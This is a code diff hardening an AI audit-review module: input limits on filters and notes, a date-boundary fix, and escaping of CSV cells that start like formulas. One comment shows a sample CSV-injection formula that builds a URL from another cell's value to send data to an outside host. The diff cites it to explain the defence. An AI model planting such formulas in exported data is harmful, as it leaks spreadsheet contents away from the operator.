@@ -23,10 +23,16 @@ from sqlmodel import Session, col, select
 from assistant.safety.audit import LABELS
 from assistant.safety.spec import Spec
 from memory.models import AuditRecord, Message, OperatorAction, aware, utcnow
+from memory.store import possible_row_id
+from memory.text import clean_text
 
 DECISIONS = ("refuse", "safe_complete", "deliberation_failed")
 LABEL_FILTERS = (*LABELS, "unlabelled")
 MAX_PAGE_SIZE = 200
+# A filter value is compared with a column of at most 128 characters (model); a longer one matches
+# nothing, and 50,000 characters inside a LIKE pattern is more than SQLite accepts.
+MAX_FILTER_CHARS = 128
+MAX_NOTE_CHARS = 2_000
 EXPORT_BATCH = 500
 EXPORT_FIELDS = ("id", "created_at", "pseudonym", "decision", "rule_ids", "rationale", "failure", "spec_version",
                  "model", "latency_ms", "routed", "label", "note", "labelled_by", "labelled_at", "thread_id",
@@ -60,7 +66,7 @@ class AuditFilter:
 
 def parse_filter(values: Mapping[str, str | None], spec: Spec, known_rule=None) -> AuditFilter:
     """Pure but for `known_rule(rule_id) -> bool` (rule ids of older specs live only in records)."""
-    clean = {k: (v or "").strip() or None for k, v in values.items() if k in {f.name for f in fields(AuditFilter)}}
+    clean = {k: _filter_value(k, v) for k, v in values.items() if k in {f.name for f in fields(AuditFilter)}}
     date_from, date_to = _date(clean.get("date_from"), "date_from"), _date(clean.get("date_to"), "date_to")
     if date_from and date_to and date_from > date_to:
         raise ReviewError(f"The date range is empty: date_from {date_from} is after date_to {date_to}.")
@@ -74,6 +80,15 @@ def parse_filter(values: Mapping[str, str | None], spec: Spec, known_rule=None) 
                           "cites it.")
     return AuditFilter(date_from, date_to, decision, rule, clean.get("pseudonym"), label, clean.get("model"),
                        clean.get("spec_version"))
+
+
+def _filter_value(name: str, value: str | None) -> str | None:
+    text = (value or "").strip()
+    if len(text) > MAX_FILTER_CHARS:
+        raise ReviewError(f"{name} can be at most {MAX_FILTER_CHARS} characters.")
+    if clean_text(text) != text:  # NUL (which PostgreSQL refuses) or another control character
+        raise ReviewError(f"{name} cannot contain control characters.")
+    return text or None
 
 
 def _date(value: str | None, name: str) -> date | None:
@@ -104,8 +119,8 @@ def rule_is_cited(session: Session, rule_id: str) -> bool:
 def _where(query, f: AuditFilter):
     if f.date_from:
         query = query.where(AuditRecord.created_at >= datetime.combine(f.date_from, time.min, UTC))
-    if f.date_to:
-        query = query.where(AuditRecord.created_at < datetime.combine(f.date_to + timedelta(days=1), time.min, UTC))
+    if f.date_to and (end := _end_of(f.date_to)):
+        query = query.where(AuditRecord.created_at < end)
     for name in ("decision", "pseudonym", "model", "spec_version"):
         if getattr(f, name):
             query = query.where(getattr(AuditRecord, name) == getattr(f, name))
@@ -116,6 +131,13 @@ def _where(query, f: AuditFilter):
     elif f.label:
         query = query.where(AuditRecord.label == f.label)
     return query
+
+
+def _end_of(day: date) -> datetime | None:
+    """The first instant after `day` (UTC); None after the calendar's last day, which bounds nothing."""
+    if day == date.max:  # date.max + 1 day does not exist
+        return None
+    return datetime.combine(day + timedelta(days=1), time.min, UTC)
 
 
 def summary(record: AuditRecord) -> dict:
@@ -162,19 +184,23 @@ def detail(session: Session, *, record_id: int, spec: Spec, operator: str) -> di
 
 
 def _get(session: Session, record_id: int) -> AuditRecord:
-    record = session.get(AuditRecord, record_id)
+    record = session.get(AuditRecord, record_id) if possible_row_id(record_id) else None
     if record is None:
         raise RecordNotFound(f"There is no audit record {record_id}.")
     return record
 
 
-def label(session: Session, *, record_id: int, value: str, note: str | None, operator: str) -> AuditRecord:
-    if value not in LABELS:
-        raise ReviewError(f"A label is one of {', '.join(LABELS)}, not {value!r}.")
-    if note is not None and len(note) > 2_000:
-        raise ReviewError("A note can be at most 2,000 characters.")
+def label(session: Session, *, record_id: int, value: object, note: object, operator: str) -> AuditRecord:
+    """Values arrive from JSON as anything: only a known label and a text note (or none) pass."""
+    if not isinstance(value, str) or value not in LABELS:
+        shown = repr(value)[:40] if isinstance(value, str) else f"a {type(value).__name__}"
+        raise ReviewError(f"A label is one of {', '.join(LABELS)}, not {shown}.")
+    if note is not None and not isinstance(note, str):
+        raise ReviewError("A note is text (or left out).")
+    if note is not None and len(note) > MAX_NOTE_CHARS:
+        raise ReviewError(f"A note can be at most {MAX_NOTE_CHARS:,} characters.")
     record = _get(session, record_id)
-    record.label, record.note = value, (note or "").strip() or None
+    record.label, record.note = value, clean_text(note or "").strip() or None
     record.labelled_by, record.labelled_at = operator, utcnow()
     session.add(record)
     log_action(session, operator=operator, action="label", record_id=record.id, detail=value)
@@ -244,12 +270,28 @@ def as_jsonl(rows: Iterator[dict]) -> Iterator[str]:
         yield json.dumps(row, ensure_ascii=False) + "\n"
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a user's message such as
+# =HYPERLINK("https://elsewhere/?"&A1, "Open") would send other cells away from the operator's
+# machine (OWASP, "CSV Injection"). Tab and carriage return are on OWASP's list as well.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> object:
+    """A text cell that would start a formula, prefixed with a single quote so it is shown as text.
+
+    Only the CSV export does this; JSONL carries the exact text, for programs rather than spreadsheets.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def as_csv(rows: Iterator[dict]) -> Iterator[str]:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=EXPORT_FIELDS)
     writer.writeheader()
     for row in rows:
-        writer.writerow({k: ";".join(v) if isinstance(v, list) else v for k, v in row.items()})
+        writer.writerow({k: csv_cell(";".join(v) if isinstance(v, list) else v) for k, v in row.items()})
         yield buffer.getvalue()
         buffer.seek(0)
         buffer.truncate()
